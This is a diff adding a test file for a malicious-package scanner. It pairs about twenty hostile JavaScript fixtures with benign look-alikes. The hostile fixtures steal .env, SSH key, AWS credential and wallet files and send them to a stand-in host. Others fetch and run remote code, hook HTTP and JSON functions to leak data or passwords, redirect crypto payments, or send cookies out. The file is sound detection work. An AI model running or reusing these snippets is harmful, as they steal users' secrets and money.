@@ -1,0 +1,79 @@
+import assert from 'node:assert/strict';
+import { describe, test } from 'node:test';
+import { scan } from './package-code.ts';
+
+/** Behaviours that are only seen if data are followed, in code that is read and never run. */
+const ATTACKS: Readonly<Record<string, string>> = {
+  'a recursive walk of the home folder': `const fs=require('fs'),path=require('path'),os=require('os'),https=require('https');
+const found=[];
+function walk(dir, depth){ if(depth>4) return; for(const e of fs.readdirSync(dir,{withFileTypes:true})){ const p=path.join(dir,e.name); if(e.isDirectory()) walk(p,depth+1); else if(/\\.(env|pem|key)$/.test(e.name)) found.push({p, c: fs.readFileSync(p,'utf8')}); } }
+walk(os.homedir(),0);
+const r=https.request({hostname:'c.example.test',method:'POST'}); r.end(JSON.stringify(found));`,
+  'a walk of the home folder by a generator': `const fs=require('fs').promises,path=require('path'),os=require('os');
+async function* walk(d){ for (const e of await fs.readdir(d,{withFileTypes:true})){ const p=path.join(d,e.name); if(e.isDirectory()) yield* walk(p); else yield p; } }
+(async()=>{ for await (const f of walk(os.homedir())) { if(!/wallet|key/.test(f)) continue; const b=await fs.readFile(f); await fetch('https://c.example.test/u',{method:'POST',body:b}); } })();`,
+  'a walk of the home folder by flatMap': `const fs=require('fs'),path=require('path'),os=require('os');
+const list=(d)=>fs.readdirSync(d).flatMap(n=>{const p=path.join(d,n); return fs.statSync(p).isDirectory()?list(p):[p];});
+const out=list(os.homedir()).filter(f=>/\\.env$/.test(f)).map(f=>fs.readFileSync(f,'utf8'));
+fetch('https://c.example.test',{method:'POST',body:JSON.stringify(out)});`,
+  'a walk of the home folder by a queue': `const fs=require('fs'),path=require('path'),os=require('os');
+const queue=[os.homedir()]; const out={};
+while(queue.length){ const d=queue.pop(); let es=[]; try{es=fs.readdirSync(d,{withFileTypes:true});}catch{continue;} for(const e of es){ const p=path.join(d,e.name); if(e.isDirectory()) queue.push(p); else if(e.name.startsWith('.env')) out[p]=fs.readFileSync(p,'utf8'); } }
+fetch('https://c.example.test',{method:'POST',body:JSON.stringify(out)});`,
+  'a pattern for files of the home folder': `const glob=require('fast-glob'),fs=require('fs'),os=require('os'),axios=require('axios');
+glob('**/.env',{cwd:os.homedir(),absolute:true}).then(fs_=>Promise.all(fs_.map(f=>fs.promises.readFile(f,'utf8')))).then(d=>axios.post('https://c.example.test',{d}));`,
+  'an environment that is printed, encoded twice': `console.log(Buffer.from(Buffer.from(JSON.stringify(process.env)).toString('base64')).toString('base64'));`,
+  'a key that SFTP uploads': `const {Client}=require('ssh2'); const os=require('os'),path=require('path'); const c=new Client(); c.on('ready',()=>c.sftp((e,s)=>{ s.fastPut(path.join(os.homedir(),'.ssh','id_rsa'),'/in/k',()=>c.end()); })).connect({host:'c.example.test',username:'u',password:'p'});`,
+  'a file of credentials that a client uploads': `const S=require('ssh2-sftp-client'); const os=require('os'); (async()=>{ const s=new S(); await s.connect({host:'c.example.test',username:'u',password:'p'}); await s.fastPut(os.homedir()+'/.aws/credentials','/x'); })();`,
+  'code that WebAssembly returns': `(async()=>{ const {instance}=await WebAssembly.instantiate(require('fs').readFileSync(require('path').join(__dirname,'x.wasm'))); const {memory,get}=instance.exports; const p=get(); const t=new TextDecoder().decode(new Uint8Array(memory.buffer,p,400)); new Function('require',t)(require); })();`,
+  'downloaded code in a worker': `require('axios').get('https://c.example.test').then(({data})=>{ const {Worker}=require('worker_threads'); new Worker(data,{eval:true}); });`,
+  'downloaded code that is loaded from its file': `const fs=require('fs');require('https').get('https://c.example.test',r=>{const f=fs.createWriteStream('/tmp/a.js');r.pipe(f);f.on('finish',()=>require('/tmp/a.js'));});`,
+  'downloaded code in an argument': `const cp=require('child_process');fetch('https://c.example.test').then(r=>r.text()).then(t=>cp.spawn(process.execPath,['-e',t],{detached:true,stdio:'ignore'}).unref());`,
+  'code that is written backwards': `eval(')2(gol.elosnoc;)1(gol.elosnoc'.split('').reverse().join(''));`,
+  'a replaced method that reports by an image': `const s=XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send=function(b){ new Image().src='https://c.example.test/?'+encodeURIComponent(b); return s.call(this,b); };`,
+  'a replaced method of requests': `const h=require('https'),o=h.request; h.request=function(opts,cb){ const r=o.apply(this,arguments); const w=r.write; r.write=function(d){ o({hostname:'c.example.test',method:'POST'}).end(d); return w.apply(r,arguments); }; return r; };`,
+  'a replaced parser': `const p=JSON.parse; JSON.parse=function(t,r){ const v=p(t,r); if(v&&v.password) fetch('https://c.example.test',{method:'POST',body:t}); return v; };`,
+  'a proxy for requests': `const https=require('https'); https.request=new Proxy(https.request,{apply(t,s,a){ t({hostname:'c.example.test',method:'POST'}).end(JSON.stringify(a[0])); return Reflect.apply(t,s,a); }});`,
+  'a replaced address in a payment': `const r=window.ethereum.request; window.ethereum.request=async a=>{ if(a.method==='eth_sendTransaction') a.params[0].to='0x1111111111111111111111111111111111111111'; return r.call(window.ethereum,a); };`,
+  'cookies in the address of a page': `location.href='https://c.example.test/?c='+encodeURIComponent(document.cookie);`,
+  'an environment that a socket emits': `const io=require('socket.io-client'); const s=io('https://c.example.test'); s.emit('x', process.env);`,
+};
+
+/** Honest code that uses the same. */
+const HONEST: Readonly<Record<string, string>> = {
+  'a recursive walk of the project': `const fs = require('fs'), path = require('path'); const found = []; function walk(dir) { for (const e of fs.readdirSync(dir, { withFileTypes: true })) { const p = path.join(dir, e.name); if (e.isDirectory()) walk(p); else found.push(fs.readFileSync(p, 'utf8')); } } exports.upload = (dir) => { walk(dir); return fetch('https://api.example/upload', { method: 'POST', body: JSON.stringify(found) }); };`,
+  'a walk of the home folder that counts': `const fs = require('fs'), path = require('path'), os = require('os'); const size = (d) => fs.readdirSync(d).reduce((sum, n) => sum + fs.statSync(path.join(d, n)).size, 0); console.log(size(os.homedir()));`,
+  'a settings file of its own that is sent': `const fs = require('fs'), os = require('os'), path = require('path'); const settings = JSON.parse(fs.readFileSync(path.join(os.homedir(), '.tool', 'settings.json'), 'utf8')); exports.sync = () => fetch('https://api.example/settings', { method: 'PUT', body: JSON.stringify(settings) });`,
+  'data that are printed in base64': `const fs = require('fs'); console.log(fs.readFileSync(process.argv[2]).toString('base64'));`,
+  'a variable that is printed': `console.log('mode', process.env.MODE, Object.keys(process.env).length);`,
+  'a build that is uploaded over SFTP': `const S = require('ssh2-sftp-client'); exports.deploy = async ({ host, username, privateKey }) => { const s = new S(); await s.connect({ host, username, privateKey }); await s.uploadDir('dist', '/srv/www'); };`,
+  'a client of a named host that gets a token': `const { Client } = require('some-api'); const client = new Client({ url: 'https://api.example', token: process.env.API_TOKEN }); exports.list = () => client.list({ page: 1 });`,
+  'a socket that joins a room': `const { io } = require('socket.io-client'); const s = io('https://chat.example'); s.on('connect', () => s.emit('join', { room: process.env.ROOM }));`,
+  'a class that keeps the environment for its children': `const { spawn } = require('child_process'); class Runner { constructor() { this.env = { ...process.env, FORCE_COLOR: '1' }; } run(cmd) { return spawn(cmd, { env: this.env, stdio: 'inherit' }); } } module.exports = Runner;`,
+  'a class with a token for its requests': `class Api { #token = process.env.API_TOKEN; get(path) { return fetch('https://api.example' + path, { headers: { authorization: 'Bearer ' + this.#token } }); } } module.exports = new Api();`,
+  'an emitter that logs': `const E = require('events'); const e = new E(); e.on('started', (env) => console.log(env.NODE_ENV)); e.emit('started', process.env);`,
+  'a generator of pages': `async function* pages(url) { let next = url; while (next) { const r = await (await fetch(next)).json(); yield r.items; next = r.next; } } exports.all = async () => { const out = []; for await (const p of pages('https://api.example/items')) out.push(...p); return out; };`,
+  'a module of WebAssembly that makes text': `const fs = require('fs'); const { exports: e } = new WebAssembly.Instance(new WebAssembly.Module(fs.readFileSync(__dirname + '/md.wasm'))); module.exports = (t) => new TextDecoder().decode(new Uint8Array(e.memory.buffer, e.render(t), e.length()));`,
+  'the runtime of a compiler to WebAssembly': `var Module = {}; var HEAPU8; function UTF8ToString(p) { return new TextDecoder().decode(HEAPU8.subarray(p, p + 10)); } function _run_script(p) { eval(UTF8ToString(p)); } WebAssembly.instantiate(Module.binary, { env: { _run_script } }).then((o) => { HEAPU8 = new Uint8Array(o.instance.exports.memory.buffer); });`,
+  'a worker with code of its own': `const { Worker } = require('worker_threads'); new Worker('require("worker_threads").parentPort.postMessage(1 + 1)', { eval: true });`,
+  'a replaced fetch that retries': `const original = globalThis.fetch; globalThis.fetch = async (...args) => { try { return await original(...args); } catch { return original(...args); } };`,
+  'a replaced method that measures': `const https = require('https'), original = https.request; https.request = function (...args) { const began = Date.now(); const r = original.apply(this, args); r.on('close', () => console.log(Date.now() - began)); return r; };`,
+  'a parser that revives dates': `const parse = JSON.parse; JSON.parse = function (text, reviver) { return parse(text, reviver || ((k, v) => (/^\\d{4}-\\d\\d-\\d\\dT/.test(v) ? new Date(v) : v))); };`,
+  'a pixel that counts a page': `new Image().src = 'https://stats.example/p.gif?path=' + encodeURIComponent(location.pathname);`,
+  'a payment to the address of a contract': `exports.pay = (signer, value) => { const tx = {}; tx.to = '0x1111111111111111111111111111111111111111'; tx.value = value; return signer.sendTransaction(tx); };`,
+  'credentials of the cloud for requests to it': `async function token() { const r = await fetch('http://metadata.google.internal/computeMetadata/v1/token', { headers: { 'Metadata-Flavor': 'Google' } }); return (await r.json()).access_token; } exports.list = async () => fetch('https://storage.example/b', { headers: { authorization: 'Bearer ' + (await token()) } });`,
+  'a program that runs a text of its own': `require('child_process').spawn(process.execPath, ['-e', 'console.log(process.version)'], { stdio: 'inherit' });`,
+};
+
+describe('behaviours that show only by the way that data take', () => {
+  for (const [name, code] of Object.entries(ATTACKS))
+    test(`${name} is suspicious`, () => {
+      const { isSuspicious, signs } = scan(code);
+      assert.ok(isSuspicious, JSON.stringify(signs));
+    });
+  for (const [name, code] of Object.entries(HONEST))
+    test(`${name} is not suspicious`, () => {
+      const { isSuspicious, signs } = scan(code);
+      assert.ok(!isSuspicious, JSON.stringify(signs));
+    });
+});
